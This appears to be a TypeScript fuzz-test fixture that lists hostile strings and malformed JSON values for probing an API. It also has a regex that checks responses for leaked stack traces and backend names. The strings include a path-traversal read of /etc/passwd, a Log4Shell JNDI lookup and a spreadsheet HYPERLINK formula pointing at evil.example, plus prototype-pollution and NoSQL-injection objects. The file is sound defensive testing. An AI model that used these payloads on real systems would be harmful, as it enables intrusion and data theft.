import naughty from 'big-list-of-naughty-strings/blns.json' with { type: 'json' };

/**
 * Strings that break programs: the big list of naughty strings, and strings that this application's stores
 * may mishandle.
 */
export const hostileStrings: readonly string[] = [
  ...naughty,
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'HEAD',
  'ITEM#primer',
  'Q#1',
  'U#1/PROFILE',
  '#',
  '\u0000',
  '\ud800',
  '\uffff',
  'a\uffffb',
  'a\u0007b',
  'a\u202eb',
  '../../../etc/passwd',
  `\${jndi:ldap://evil.example/x}`,
  'attribute_exists(pk)',
  ':now',
  '=HYPERLINK("https://evil.example")',
  'a'.repeat(100_000),
  '💣'.repeat(5000),
  '\u202e'.repeat(500),
  ' '.repeat(5000),
];

/** Values of every wrong type in JSON. */
export const hostileValues: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -0,
  -1,
  0.5,
  1.000_000_1,
  2_147_483_647,
  2_147_483_648,
  -2_147_483_649,
  2 ** 53,
  1e21,
  1e308,
  -1e308,
  5e-324,
  '',
  '1',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '0x10',
  '1,5',
  [],
  [null],
  [[]],
  [[[[['x']]]]],
  {},
  { '': '' },
  { id: { id: { id: 1 } } },
  JSON.parse('{"__proto__": {"polluted": true}}'),
  { constructor: { prototype: { polluted: true } } },
  { length: 10_000_000 },
  { $gt: '' },
  { S: 'text', N: '1' },
  Array.from({ length: 2000 }, (_, index) => index),
  Array.from({ length: 2000 }, () => ({ id: 'x', sId: 'primer' })),
  Array.from({ length: 3 }, () => 'primer'),
  JSON.parse(`${'{"a":'.repeat(500)}1${'}'.repeat(500)}`),
  JSON.parse(`${'['.repeat(500)}1${']'.repeat(500)}`),
];

/** Forbidden in every answer: stack traces, paths, names of programs behind the API. */
export const internals =
  /\bat \S+ \(|node_modules|\.ts\b|\.mjs|lambdas\/|DynamoDB|dynamodb|ValidationException|ConditionalCheck|TransactionCancel|ElectroError|ZodError|TypeError|RangeError|SyntaxError|Cannot read prop|is not a function|ECONNREFUSED|awsRequestId|TABLE_NAME|eyJ[\w-]{10}/;
